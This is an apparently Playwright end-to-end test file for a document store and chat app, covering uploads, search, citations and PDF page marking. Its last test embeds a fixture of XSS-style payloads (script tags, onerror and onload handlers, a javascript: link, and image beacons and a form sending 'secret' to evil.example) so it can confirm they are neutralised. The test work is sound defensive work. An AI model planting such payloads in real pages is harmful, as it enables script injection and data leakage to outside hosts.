/** Documents: uploaded, searched, cited, read; hostile ones too. */
import { ask, assistant, expect, get, madeChat, madeStore, openPage, pdf, user, withSettings } from "./steps.mjs";

const LEAVE = "# Leave\n\nEverybody has 31 days of paid leave a year.\n\n# Illness\n\nWho is ill calls before nine. 🐧\n\nTravel needs form T-17.";
const HOSTILE = `<script>window.hacked = 1</script><img src="https://evil.example/a.png?q=secret" onerror="window.hacked = 2">

![beacon](https://evil.example/b.png?q=secret) [harmless](javascript:window.hacked=3) [far](https://evil.example/c?q=secret)

<iframe src="https://evil.example"></iframe><style>body { display: none }</style>
<svg onload="window.hacked = 4"></svg><form action="https://evil.example"><button>Send</button></form>`;

/** From the upload over states and search to the passage in its document. */
export async function uploads({ page, url }) {
  await openPage(page, url, "#/documents");
  await page.getByRole("button", { name: "New store" }).first().click();
  await page.fill(".dialog input", "Rules");
  await page.keyboard.press("Enter");
  const file = (name, text) => ({ name, mimeType: "application/octet-stream", buffer: Buffer.from(text) });
  await page.locator('input[type="file"][multiple]').setInputFiles([file("leave.md", LEAVE), file("broken.pdf", "%PDF-1.4 nothing")]);
  await page.locator(".file", { hasText: "leave.md" }).getByText("ready").waitFor();
  await page.locator(".file", { hasText: "broken.pdf" }).getByText("damaged").waitFor();
  await page.fill('input[name="query"]', "paid leave");
  await page.keyboard.press("Enter");
  await page.locator(".hits .passage").first().click();
  await page.locator("mark", { hasText: "31 days of paid leave" }).waitFor();
  await page.keyboard.press("Escape");
  await page.locator(".reader").waitFor({ state: "detached" });
  await page.getByRole("button", { name: "Delete broken.pdf" }).click();
  await page.locator(".dialog").getByRole("button", { name: "Delete" }).click();
  await page.locator(".file", { hasText: "broken.pdf" }).waitFor({ state: "detached" });
}

/** A document that is dropped into a chat is what the chat is answered from. */
export async function attached({ page, url }) {
  await withSettings(page, { max_output_tokens: 16 });
  await openPage(page, url);
  const files = page.locator('.composer input[type="file"]');
  await files.setInputFiles({ name: "leave.docx.md", mimeType: "application/octet-stream", buffer: Buffer.from(LEAVE + "\n\nMore of it. ".repeat(1600)) });
  const chip = page.locator(".attached li", { hasText: "leave.docx.md" });
  await chip.waitFor();
  await page.locator(".attached .dim").waitFor({ state: "detached" });
  await files.setInputFiles({ name: "broken.pdf", mimeType: "application/pdf", buffer: Buffer.from("%PDF-1.4 nothing") });
  await page.locator(".attached .error", { hasText: "damaged" }).waitFor();
  await page.getByRole("button", { name: "Remove broken.pdf" }).click();
  await ask(page, "How many days of paid leave are there?");
  await page.getByText("Searched the documents").waitFor();
  await page.getByRole("button", { name: "Documents 1 chosen" }).waitFor();
}

/** A citation opens its document at the exact words. */
export async function citation({ page, url }) {
  const { store, file } = await madeStore(url, "Cited", "leave.md", LEAVE);
  const { text } = await get(url, `/v1/vector_stores/${store}/files/${file}/text`);
  const quote = "Travel needs form T-17.";
  const start = [...text.slice(0, text.indexOf(quote))].length;
  const cited = { type: "file_citation", index: 14, file_id: file, filename: "leave.md", vector_store_id: store, start, end: start + quote.length, quote };
  const id = await madeChat(url, "Cited", [user("How do I travel?"), assistant("With form T-17. Enjoy.", [cited])]);
  await openPage(page, url, `#/chat/${id}`);
  await page.getByRole("button", { name: "Source 1" }).click();
  await page.locator("mark").waitFor();
  expect((await page.textContent("mark")) === quote, "other words are marked");
  await page.keyboard.press("Escape");
  await page.locator(".source", { hasText: "leave.md" }).click();
  await page.locator("mark", { hasText: quote }).waitFor();
}

/** A citation of a PDF opens the page on which it stands, marked there. */
export async function pdfPage({ page, url }) {
  const quote = "Travel needs form T-17, signed by the head of the department.";
  const pages = [["Leave", "Everybody has 31 days of paid leave a year."], ["Travel", "Travel needs form T-17, signed by the", "head of the department."], ["Illness"]];
  const { store, file } = await madeStore(url, "Manual", "manual.pdf", pdf(pages));
  const { text } = await get(url, `/v1/vector_stores/${store}/files/${file}/text`);
  const start = text.indexOf("Travel needs");
  const cited = { type: "file_citation", index: 14, file_id: file, filename: "manual.pdf", vector_store_id: store, start, end: start + quote.length, quote, page: 2 };
  await openPage(page, url, `#/chat/${await madeChat(url, "PDF", [user("How do I travel?"), assistant("With form T-17. Enjoy.", [cited])])}`);
  await page.getByRole("button", { name: "Source 1" }).click();
  await page.getByRole("img", { name: "Page 2, with the passage marked" }).waitFor();
  expect((await page.locator(".pdf-mark").count()) === 2, "not the two lines of the quote are marked");
  const [mark, sheet] = await Promise.all([page.locator(".pdf-mark").first().boundingBox(), page.locator(".pdf-sheet").boundingBox()]);
  expect(mark.x >= sheet.x && mark.y >= sheet.y && mark.width < sheet.width, "the mark lies beside the page");
  const dark = await page.evaluate(([box]) => {
    const canvas = document.querySelector(".pdf-sheet canvas");
    const scale = canvas.width / canvas.clientWidth;
    const own = canvas.getBoundingClientRect();
    const pixels = canvas.getContext("2d").getImageData((box.x - own.x) * scale, (box.y - own.y) * scale, box.width * scale, box.height * scale).data;
    return pixels.some((value, i) => i % 4 === 0 && value < 100);
  }, [mark]);
  expect(dark, "no text is drawn under the mark");
  await page.getByRole("button", { name: "The next page" }).click();
  await page.getByText("Page 3 of 3").waitFor();
  await page.getByRole("button", { name: "Its text" }).click();
  await page.locator("mark", { hasText: "Travel needs form" }).waitFor();
}

/** Nothing in an answer or a document runs, loads, or is a link that nobody was asked about. */
export async function hostile({ page, url }) {
  const { store } = await madeStore(url, "Hostile", "hostile.txt", HOSTILE);
  const id = await madeChat(url, "Hostile", [user("Read it."), assistant(HOSTILE)]);
  await openPage(page, url, `#/chat/${id}`);
  await page.getByText("<script>window.hacked = 1</script>").waitFor();
  await page.getByText("picture not loaded: beacon").waitFor();
  const found = await page.evaluate(() => document.querySelectorAll(".answer :is(img, iframe, script, style, form, svg[onload], a, object)").length);
  expect(found === 0, `${found} elements of the text are in the page`);
  await page.getByRole("button", { name: "far" }).click();
  await page.getByText("https://evil.example/c?q=secret", { exact: true }).waitFor();
  await page.getByRole("button", { name: "Cancel" }).click();
  await page.goto(`${url}/#/documents/${store}`);
  await page.getByRole("button", { name: "hostile.txt", exact: true }).click();
  await page.locator(".document-text", { hasText: "window.hacked = 1" }).waitFor();
  expect((await page.evaluate(() => window.hacked)) === undefined, "a script of the document ran");
}
